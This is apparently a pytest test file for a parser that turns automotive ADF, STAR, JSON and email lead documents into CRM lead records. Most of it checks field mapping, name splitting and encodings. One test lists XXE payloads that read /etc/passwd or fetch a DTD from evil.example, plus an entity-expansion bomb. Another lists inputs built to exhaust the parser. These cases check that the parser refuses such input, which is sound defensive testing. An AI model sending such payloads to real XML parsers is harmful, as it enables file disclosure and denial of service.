from __future__ import annotations

import contextlib
import json
import time
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree

from chassis_metadata.errors import Invalid
from chassis_platform.inbound.documents import read_document
from chassis_platform.inbound.xml_text import escape_ampersands, quote_attributes
from inbound.automotive import DOCUMENTS, document, mapping, units_of, values

LENIENT = ("declarations", "surrounding_text", "unquoted_attributes", "ampersands")
INTERESTS = {"buy": "Buy", "lease": "Lease", "sell": "Sell", "trade-in": "TradeIn", "test-drive": "TestDrive"}
MANIFEST: list[dict[str, Any]] = json.loads((DOCUMENTS / "manifest.json").read_text(encoding="utf-8"))
ADF = [(Path(each["file"]).name, each["expect"]) for each in MANIFEST if each["file"].startswith("adf/")]


def refused(content: bytes, lenient: tuple[str, ...] = LENIENT, content_type: str | None = None) -> Invalid:
    with pytest.raises(Invalid) as caught:
        read_document(content, content_type, lenient)
    return caught.value


@pytest.mark.parametrize(("name", "expected"), ADF, ids=[name for name, _ in ADF])
def test_every_document_gives_what_the_manifest_says(name: str, expected: dict[str, Any]) -> None:
    units = units_of(document(name))
    [lead] = values(units[0], "lead")

    assert len(units) == expected.get("prospects", 1)
    _check_customer(lead, {**expected.get("customer", {}), **expected.get("if_accepted", {}).get("customer", {})})
    _check_texts(lead, expected)
    for vehicle in expected.get("vehicles", []):
        assert any(_matches(line, lead, vehicle) for line in values(units[0], "line")), vehicle
    if expected.get("vehicles") == []:
        assert values(units[0], "line") == []


def _check_customer(lead: dict[str, Any], customer: dict[str, Any]) -> None:
    for key, name in (("first_name", "FirstName"), ("last_name", "LastName"), ("email", "Email")):
        if key in customer:
            # A lead must be called something: where the sender knows no last name, it says so.
            absent = "[not provided]" if name == "LastName" else None
            assert lead.get(name) == (customer[key] or absent)
    if "full_name" in customer:
        assert f"{lead['FirstName']} {lead['LastName']}" == customer["full_name"]
    if "phone" in customer:
        assert lead.get("MobilePhone", lead.get("Phone")) == customer["phone"].replace("-", "")
    if "phones" in customer:
        assert (lead["MobilePhone"], lead["Phone"]) == ("+15145550103", "+15145550101")
        assert "Other phones: phone evening +15145550102" in lead["Description"]
    if "locale" in customer:
        assert f"locale: {customer['locale']}" in lead["Description"]


def _check_texts(lead: dict[str, Any], expected: dict[str, Any]) -> None:
    for key in ("comment_contains", "comments_contains"):
        assert expected.get(key, "") in lead["Description"]
    for tag in expected.get("unknown_tags", []):
        assert f"\n{tag}: " in lead["Description"]
    if "id" in expected:
        assert lead["ExternalLeadId"] == expected["id"]
    assert expected.get("source", "") in lead.get("LeadSourceDetail", "")
    if "vendor_id" in expected:
        assert f"Vendor code: {expected['vendor_id']}" in lead["Description"]


def _matches(line: dict[str, Any], lead: dict[str, Any], vehicle: dict[str, Any]) -> bool:
    said = {
        "InterestType": INTERESTS.get(vehicle.get("interest", "")),
        "Classification": vehicle.get("status", "").title() or None,
        "Year": vehicle.get("year"),
        "MakeText": vehicle.get("make"),
        "ModelText": vehicle.get("model"),
        "AssetIdentificationNumber": vehicle.get("vin"),
        "OdometerValue": vehicle.get("odometer"),
        "OdometerUnit": vehicle.get("units", "").title() or None,
    }
    same = all(line.get(name) == value for name, value in said.items() if value is not None)
    price = "price" not in vehicle or float(line["UnitPrice"]) == vehicle["price"]
    currency = f"Currency: {vehicle.get('currency', '')}" in line.get("OptionsText", "Currency: ")
    colours = len(line.get("ExteriorColorText", "").split(", ")) == vehicle.get("colour_preferences", 1)
    options = "Sport seats (F0823343) +50 1460.99 CAD" in line.get("OptionsText", "") or "options" not in vehicle
    comment = vehicle.get("comments_contains", "") in lead["Description"]
    return same and price and currency and colours and options and comment


def test_a_resent_prospect_has_the_key_of_the_first() -> None:
    first, second, third = units_of(document("09_several_prospects_one_file.xml"))

    assert first.key == second.key != third.key


def test_a_word_for_nothing_is_nothing_in_a_vehicle_but_a_name_in_a_name() -> None:
    [unit] = units_of(document("11_empty_and_null_placeholders.xml"))

    assert values(unit, "lead")[0]["LastName"] == "Null"
    assert values(unit, "lead")[0]["TradeInWanted"] is True
    assert [line["MakeText"] for line in values(unit, "line")] == ["Subaru"]


def test_text_between_elements_and_unknown_tags_are_kept() -> None:
    [unit] = units_of(document("07_spanish_stray_text_and_extra_tags.xml"))

    description = values(unit, "lead")[0]["Description"]
    assert "identification: 00000000\nIDENTIFICADOR FISCAL" in description


def test_numbers_that_are_masked_in_their_fields_are_not_repeated_in_the_description() -> None:
    [unit] = units_of(document("04_new_buy_plus_trade_in.xml"))

    [lead] = values(unit, "lead")
    assert lead["Phone"] == "3125550166"
    assert "555-0166" not in lead["Description"]
    assert "sam.tester@example.org" not in lead["Description"]


def test_a_star_document_becomes_a_lead_with_the_car_wanted_and_the_car_owned() -> None:
    [unit] = units_of(document("star_process_sales_lead.xml"), "star")

    [lead] = values(unit, "lead")
    assert (lead["FirstName"], lead["LastName"], lead["MobilePhone"]) == ("Remy", "Starman", "2145550123")
    assert lead["Description"].startswith("Looking for AWD & heated seats")
    lines = [*values(unit, "line"), *values(unit, "owned")]
    found = [(line["InterestType"], line["MakeText"], line["ModelText"], line["Year"]) for line in lines]
    assert found == [("Buy", "Honda", "Passport", 2026), ("Sell", "Honda", "Pilot", 2017)]


def test_the_vendors_branch_gives_the_branch_the_dealer_and_the_queue() -> None:
    answers = {
        ("BranchUnit", "BranchCode", "7250_16", "Id"): "2BU1",
        ("BranchUnit", "Id", "2BU1", "LeadQueueId"): "00G1",
        ("BranchUnit", "Id", "2BU1", "DealerAccountId"): "0011",
        ("Account", "Name", "AutoMarket Leads", "Id"): "0012",
    }

    [unit] = units_of(document("04_new_buy_plus_trade_in.xml"), answers=answers)

    [lead] = values(unit, "lead")
    assert (lead["BranchUnitId"], lead["OwnerId"], lead["PreferredDealerId"]) == ("2BU1", "00G1", "0011")
    assert lead["LeadProviderId"] == "0012"
    assert [each["AccountId"] for each in values(unit, "seller")] == ["0011"]
    assert [each["AccountRole"] for each in values(unit, "provider")] == ["LeadProvider"]


@pytest.mark.parametrize(
    ("answers", "owner"),
    [({("Group", "DeveloperName", "OemLeadDesk", "Id"): "00G9"}, "00G9"), ({}, "005RUNASUSER")],
)
def test_without_a_branch_the_lead_desk_owns_the_lead_and_without_one_the_user(
    answers: dict[tuple[str, str, str, str], str], owner: str
) -> None:
    [unit] = units_of(document("01_minimal_spec_uppercase_pi.xml"), answers=answers)

    assert values(unit, "lead")[0]["OwnerId"] == owner


PROSPECT = (
    "<adf><prospect>{before}<vehicle>{vehicle}</vehicle><customer><contact>{name}"
    "<email>a@example.com</email></contact>{after}</customer></prospect></adf>"
)


def prospect(**parts: str) -> bytes:
    usual = {"before": "", "vehicle": "<make>Kia</make>", "name": "<name>Pat Example</name>", "after": ""}
    return PROSPECT.format(**(usual | parts)).encode()


@pytest.mark.parametrize(
    ("name", "first", "last"),
    [
        ("<name>欧阳示例</name>", "示例", "欧阳"),
        ("<name>张三</name>", "三", "张"),
        ("<name>Ann B. Lee</name>", "Ann B.", "Lee"),
        ("<name>Cher</name>", None, "Cher"),
        ('<name part="first">A</name><name part="middle">B</name><name part="surname">C</name>', "A B", "C"),
    ],
)
def test_names_are_split(name: str, first: str | None, last: str) -> None:
    [unit] = units_of(prospect(name=name))

    [lead] = values(unit, "lead")
    assert (lead.get("FirstName"), lead["LastName"]) == (first, last)


@pytest.mark.parametrize(
    ("after", "before", "horizon"),
    [
        ("<timeframe><description>within 2 weeks</description></timeframe>", "", "Within2Weeks"),
        ("<timeframe>in 3 months</timeframe>", "", "Within3Months"),
        (
            "<timeframe><latestdate>2026-03-16</latestdate></timeframe>",
            "<requestdate>2026-03-12T09:00:00+08:00</requestdate>",
            "Within1Week",
        ),
        ("<timeframe><description>some day</description></timeframe>", "", None),
    ],
)
def test_the_time_frame_gives_the_horizon(after: str, before: str, horizon: str | None) -> None:
    [unit] = units_of(prospect(after=after, before=before))

    assert values(unit, "lead")[0].get("PurchaseHorizon") == horizon


def test_what_the_sender_leaves_out_of_a_vehicle_the_vin_tells() -> None:
    [unit] = units_of(prospect(vehicle="<vin>2FMDK3GC4BBB02217</vin>"))

    [line] = values(unit, "line")
    assert (line["Year"], line["MakeText"], line["ModelText"]) == (2011, "Ford", "Edge")


def test_a_trade_in_is_never_new() -> None:
    content = prospect().replace(b"<vehicle>", b'<vehicle interest="trade-in" status="new">')

    assert values(units_of(content)[0], "line")[0]["Classification"] == "Used"


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (prospect(name=""), "no name"),
        (prospect().replace(b"<email>a@example.com</email>", b""), "can't be reached"),
        (b"<adf></adf>", "nothing at /adf/prospect"),
        (b"<other/>", "first element is <other>"),
        (b"{}", "first element is <json>"),
    ],
)
def test_a_document_without_what_it_must_have_is_refused_with_its_line(content: bytes, words: str) -> None:
    with pytest.raises(Invalid, match=words) as caught:
        units_of(content)

    assert caught.value.problems[0].line == 1


def test_too_many_prospects_are_refused() -> None:
    with pytest.raises(Invalid, match="At most 200"):
        units_of(b"<adf>" + b"<prospect/>" * 201 + b"</adf>")


@pytest.mark.parametrize(
    ("content", "line", "column"),
    [
        (b"<a>\n <b>\n</a>", 3, 5),
        (b"", 1, 1),
        (b"<a>\n\xff</a>", 2, 1),
        (b'{"a": [1,\n}', 2, 1),
        (b"\x1f\x8b\x08\x00", 1, 2),
        (b"PK\x03\x04zip", 1, 1),
        (b'<?xml version="1.0" encoding="zlib"?><a/>', 1, 1),
    ],
)
def test_what_is_not_readable_is_told_with_line_and_column(content: bytes, line: int, column: int) -> None:
    problem = refused(content).problems[0]

    assert (problem.line, problem.column) == (line, column)


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE adf [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        '<?xml version="1.0"?>\n<!DOCTYPE adf [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>',
        '<!-- <!DOCTYPE adf> --><!DOCTYPE adf [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>',
        '<!doctype adf PUBLIC "-//X//Y" "http://evil.example/x.dtd" [<!ENTITY a "x">]>',
    ],
)
def test_declared_entities_are_refused_before_anything_is_parsed(doctype: str) -> None:
    error = refused(f"{doctype}<adf>&x;</adf>".encode())

    assert error.problems[0].code == "doctype_not_allowed"


def test_a_document_type_that_only_names_a_file_is_not_fetched() -> None:
    read = read_document(b'<!DOCTYPE adf SYSTEM "file:///etc/passwd"><adf>ok</adf>', None)

    assert etree.tostring(read.root) == b"<adf>ok</adf>"


def test_an_entity_inside_an_attribute_is_not_expanded() -> None:
    refused(b'<!DOCTYPE a [<!ENTITY x "y">]><a b="&x;"/>')
    refused(b'<a b="&x;"/>', lenient=())


@pytest.mark.parametrize(
    "content",
    [
        b"<a>" * 100_000,
        b"<a b='c' " * 50_000,
        b"<!--" * 400_000,
        b"<a>" + b"<![CDATA[" * 200_000,
        b"<a>" + b"<?" * 700_000,
        b"<a " + b"b=" * 700_000,
        b"&" * 1_900_000,
        b"[" * 200_000,
        b'{"a":' * 200_000,
        b"<a>" + b"<b>" * 300 + b"</b>" * 300 + b"</a>",
        b"From: a\n" + b"Content-Type: multipart/mixed; boundary=a\n\n--a\n" * 20_000,
        b"From: a\n" + b"A: b\n" * 90_000,
        b"From: a\nContent-Type: multipart/mixed; boundary=a\n\n" + b"--a\n\n" * 40_000,
    ],
)
@pytest.mark.filterwarnings("ignore::DeprecationWarning")
def test_a_document_made_to_exhaust_the_parser_is_refused_soon(content: bytes) -> None:
    started = time.process_time()

    refused(content)

    assert time.process_time() - started < 5


def test_a_document_over_two_megabytes_is_refused() -> None:
    assert refused(b"<a>" + b" " * 2 * 1024 * 1024 + b"</a>").problems[0].code == "request_too_large"


@pytest.mark.parametrize("name", ["01_minimal_spec_uppercase_pi.xml", "10_malformed_unquoted_attribute.xml"])
def test_without_leniency_mistakes_in_the_xml_are_refused(name: str) -> None:
    refused(document(name), lenient=())


def test_repairs_are_named_and_change_nothing_but_the_mistake() -> None:
    read = read_document(document("10_malformed_unquoted_attribute.xml"), None, LENIENT)

    assert "unquoted_attributes" in read.repairs
    assert read.root.xpath("string(//id/@sequence)") == "1"
    assert read_document(document("02_full_document_custom_provider_tags.xml"), None, LENIENT).repairs == ()


def test_repairs_leave_cdata_comments_and_texts_alone() -> None:
    text = "<a b=1 c='d=2'>e=3 <![CDATA[<f g=4> & ]]><!-- <h i=5> & --></a>"

    assert quote_attributes(text) == text.replace("b=1", 'b="1"')
    assert escape_ampersands("<a b='x&y'>R&D &amp; &#65; &nbsp;<![CDATA[&]]></a>") == (
        "<a b='x&amp;y'>R&amp;D &amp; &#65; \u00a0<![CDATA[&]]></a>"
    )


@pytest.mark.parametrize(
    ("text", "encoding"),
    [("上海", "gb18030"), ("上海", "utf-16"), ("Müller", "iso-8859-1"), ("Müller", "windows-1252")],
)
def test_declared_encodings_are_read(text: str, encoding: str) -> None:
    content = f'<?xml version="1.0" encoding="{encoding}"?><a>{text}</a>'.encode(encoding)

    assert read_document(content, None).root.text == text


def test_the_transports_charset_counts_where_the_document_says_none() -> None:
    read = read_document("<a>Müller</a>".encode("latin-1"), "text/xml; charset=ISO-8859-1")

    assert read.root.text == "Müller"


def test_json_is_read_by_the_same_paths() -> None:
    read = read_document(
        b'{"lead": {"name": "A", "cars": [{"make": "Kia"}, {"make": "BYD"}], "n": null, "x y": 1.5}}', None
    )

    assert read.root.xpath("/json/lead/cars/make/text()") == ["Kia", "BYD"]
    assert read.root.xpath("string(/json/lead/x_y)") == "1.5"


MAIL = (
    "From: a@example.com\r\nSubject: Lead\r\nMessage-ID: <1@example.com>\r\nMIME-Version: 1.0\r\n"
    'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nSee <below>.\r\n'
    "--b\r\nContent-Type: {kind}\r\nContent-Transfer-Encoding: base64\r\n{more}\r\n{body}\r\n--b--\r\n"
)


@pytest.mark.parametrize(
    ("kind", "more"),
    [
        ("application/x-adf+xml", ""),
        ("application/octet-stream", 'Content-Disposition: attachment; filename="lead.xml"\r\n'),
    ],
)
def test_a_mails_xml_part_is_found(kind: str, more: str) -> None:
    mail = MAIL.format(kind=kind, more=more, body="PGFkZj5vazwvYWRmPg==")

    read = read_document(mail.encode(), "message/rfc822")

    assert (read.root.text, read.headers and read.headers["Message-ID"]) == ("ok", "<1@example.com>")


def test_a_mail_without_a_document_is_refused() -> None:
    assert refused(b"From: a@example.com\nSubject: Hi\n\nHello!\n").problems[0].code == "no_document"


@settings(max_examples=300, deadline=None)
@given(
    st.binary(max_size=400)
    | st.text(max_size=300).map(lambda text: text.encode("utf-8", "surrogatepass"))
    | st.tuples(st.integers(0, 12), st.integers(0, 900), st.binary(max_size=12)).map(
        lambda cut: document(ADF[cut[0]][0])[: cut[1]] + cut[2] + document(ADF[cut[0]][0])[cut[1] + len(cut[2]) :]
    ),
    st.sampled_from(
        [None, "application/xml", "application/json", "message/rfc822", "text/plain; charset=gbk", ";;=", "x"]
    ),
)
@pytest.mark.filterwarnings("ignore::DeprecationWarning")
def test_whatever_comes_is_read_or_refused(content: bytes, content_type: str | None) -> None:
    with contextlib.suppress(Invalid):  # nothing else may be raised
        units_of(content, mapping("adf"), content_type)
